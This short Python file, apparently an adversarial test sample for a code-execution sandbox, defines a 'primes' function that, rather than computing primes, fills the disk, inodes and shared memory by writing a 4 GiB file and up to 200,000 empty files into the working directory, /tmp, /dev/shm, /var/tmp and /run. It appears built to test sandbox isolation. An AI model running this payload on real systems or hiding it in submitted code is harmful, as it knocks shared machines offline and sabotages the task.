# attack 22: fill disk, inodes and shared memory.
# honest: double
# needs: engine
import os


def double(x):
    return 2 * x


def fill(folder):
    try:
        with open(os.path.join(folder, "big"), "wb") as file:
            for _ in range(4096):
                file.write(bytes(1024 * 1024))
    except OSError:
        pass
    try:
        for number in range(200_000):
            open(os.path.join(folder, f"n{number}"), "w").close()
    except OSError:
        pass


def primes(n):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run"):
        fill(folder)
    return []
